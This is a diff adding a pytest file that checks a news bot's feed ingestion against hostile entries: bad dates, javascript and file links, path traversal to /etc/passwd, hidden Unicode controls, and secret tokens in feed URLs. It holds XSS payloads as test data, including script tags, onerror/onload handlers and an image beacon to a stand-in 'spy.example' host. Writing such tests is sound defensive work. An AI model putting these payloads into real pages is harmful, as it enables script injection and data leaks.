@@ -1,0 +1,135 @@
+"""Entries that lie about dates, addresses and ids, or carry what must not be shown: cleaned, or a coded failure."""
+
+from datetime import UTC, datetime
+
+import pytest
+
+from bot.ingest.admit import Circumstances, admit
+from bot.model.article import PUBLIC, Article, Entry, Failure, Publisher, ReceivedUrl
+from bot.sources.syndication.reading import read_feed
+from bot.text.urls import shown
+from tests.hostile.test_feeds import BASE, item, rss
+
+NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
+TEXT = "The minister told reporters in Vienna that the talks would go on."
+DATES: dict[str, tuple[str | None, datetime | None]] = {
+    "no date": (None, None),
+    "an empty date": ("", None),
+    "a word for a date": ("tomorrow", None),
+    "a date of 1900": ("Mon, 01 Jan 1900 00:00:00 GMT", None),
+    "the beginning of time": ("0000-00-00T00:00:00Z", None),
+    "the epoch": ("1970-01-01T00:00:00Z", None),
+    "a date of 2099": ("Mon, 01 Jan 2099 00:00:00 GMT", None),
+    "a year of five digits": ("12026-01-01T00:00:00Z", None),
+    "the end of time": ("9999-12-31T23:59:59-14:00", None),
+    "the thirty-first of February": ("Mon, 31 Feb 2026 10:00:00 GMT", None),
+    "hour twenty-five": ("2026-02-01T25:00:00Z", None),
+    "ten thousand digits": ("9" * 10_000, None),
+    "an hour from now": ("2026-03-01T13:00:00Z", datetime(2026, 3, 1, 13, tzinfo=UTC)),
+    "a zone far from here": ("2026-03-01T02:00:00+14:00", datetime(2026, 2, 28, 12, tzinfo=UTC)),
+}
+LINKS: dict[str, tuple[str, str | None]] = {
+    "a relative link": ("/talks", "https://site.example/talks"),
+    "a link that climbs out": ("/../../../etc/passwd", "https://site.example/etc/passwd"),
+    "a link without scheme": ("//other.example/a", "https://other.example/a"),
+    "a javascript link": ("javascript:alert(1)", None),
+    "a javascript link in pieces": ("java&#10;script:alert(1)", None),
+    "a data link": ("data:text/html,hi", None),
+    "a file link": ("file:///etc/passwd", None),
+    "a vbscript link": ("vbscript:msgbox", None),
+    "a link with a password": ("https://a:b@site.example/", None),
+    "a link back to the feed": ("#top", None),
+    "no link": ("", None),
+    "a link of a hundred thousand letters": ("https://site.example/" + "a" * 100_000, None),
+    "a link that turns around": ("https://site.example/\u202egnp.exe", "https://site.example/gnp.exe"),
+    "a link in look-alike letters": ("https://xn--pple-43d.example/", "https://xn--pple-43d.example/"),
+}
+WORDS: dict[str, str] = {
+    "a bidirectional override": "Talks \u202egnidne",
+    "isolates": "Talks \u2066now\u2069",
+    "tag characters": "Talks \U000e0041\U000e0042",
+    "zero width": "Ta\u200blks\u2060",
+    "variation selectors": "Talks\ufe0f\U000e0101",
+    "NULs and escapes": "Talks \x00\x1b[31m",
+    "lone surrogates": "Talks \ud800",
+    "line separators": "Talks\u2028now",
+    "a script": "Talks <script>alert(1)</script>",
+    "a picture that reports back": "Talks <img src='https://spy.example/?q=secret'>",
+    "an SVG that runs": "Talks <svg onload=alert(1)><style>@import 'x'</style></svg>",
+    "mutation": "Talks <math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
+    "a comment that ends twice": "Talks <!--><img src=x onerror=alert(1)>-->",
+}
+TOKENS: dict[str, tuple[str, str]] = {
+    "a token in the query": ("https://site.example/feed?token=s3cr3tvalue", "s3cr3tvalue"),
+    "a signature in the query": ("https://site.example/feed?x-sig=ZGVmYXVsdA9x8&a=1", "ZGVmYXVsdA9x8"),
+    "a bare key as query": ("https://site.example/feed?9f8a7c6b5e4d3c2b1a0f", "9f8a7c6b5e4d3c2b1a0f"),
+    "a key in the path": ("https://site.example/private/9f8a7c6b5e4d3c2b1a0f/feed.xml", "9f8a7c6b5e4d3c2b1a0f"),
+    "a UUID in the path": ("https://site.example/1b4e28ba-2fa1-11d2-883f-0016d3cca427/rss", "2fa1-11d2"),
+    "a password before the host": ("https://me:hunter2@site.example/feed", "hunter2"),
+    "a user key in a parameter": ("https://site.example/rss.php?uid=4242424242424242", "4242424242424242"),
+}
+CASES = {
+    "Dates of entries": DATES,
+    "Links of entries": LINKS,
+    "Words that are not what they look like": WORDS,
+    "Keys in the addresses of feeds": TOKENS,
+}
+
+
+def read(entry: Entry) -> Article | Failure:
+    return admit(entry, "entry", Circumstances(PUBLIC, Publisher("The Site"), NOW, base=BASE))
+
+
+@pytest.mark.parametrize("name", DATES)
+def test_a_date_is_right_or_none(name: str) -> None:
+    given, expected = DATES[name]
+    made = read(Entry(ReceivedUrl("https://site.example/a"), "Talks", published=given, text=TEXT))
+    assert isinstance(made, Article)
+    assert made.published == expected
+
+
+@pytest.mark.parametrize("name", LINKS)
+def test_a_link_is_canonical_or_none(name: str) -> None:
+    given, expected = LINKS[name]
+    feed = read_feed(rss(item(link=given)), None, BASE)
+    assert [entry.url for entry in feed.entries] == [expected]
+    assert "abc123" not in str(feed.entries)
+
+
+@pytest.mark.parametrize("name", WORDS)
+def test_words_lose_what_is_hidden_in_them(name: str) -> None:
+    made = read(
+        Entry(ReceivedUrl("https://site.example/a"), WORDS[name], text=f"{WORDS[name]} {TEXT}", authors=(WORDS[name],))
+    )
+    assert isinstance(made, Article)
+    for words in (made.title, *made.byline):
+        assert words.startswith("Talks")
+        assert words.isprintable()
+        assert not any(each in words for each in ("<script", "<img", "onerror", "onload", "\u202e", "\u2066", "\ufe0f"))
+    assert not any(0xE0000 <= ord(each) <= 0xE0FFF or 0xD800 <= ord(each) <= 0xDFFF for each in made.text)
+
+
+@pytest.mark.parametrize("name", TOKENS)
+def test_a_key_is_not_shown(name: str) -> None:
+    address, key = TOKENS[name]
+    assert key not in shown(address)
+    assert "site.example" in shown(address)
+
+
+def test_ids_that_are_missing_doubled_or_changing_lose_no_entry() -> None:
+    """What identifies an article is its address; an id is only a name for it."""
+    entries = [
+        item("One", "https://site.example/1", "<guid>same</guid>"),
+        item("Two", "https://site.example/2", "<guid>same</guid>"),
+    ]
+    entries += [
+        item("Three", "https://site.example/3"),
+        "<item><guid>https://site.example/4</guid><title>Four</title></item>",
+    ]
+    feed = read_feed(rss("".join(entries)), None, BASE)
+    assert [entry.url for entry in feed.entries] == [f"https://site.example/{n}" for n in range(1, 5)]
+    again = read_feed(rss(item("One", "https://site.example/1", "<guid>other</guid>")), None, BASE)
+    first, second = (read(Entry(each.entries[0].url, "One", text=TEXT)) for each in (feed, again))
+    assert isinstance(first, Article)
+    assert isinstance(second, Article)
+    assert first.id == second.id
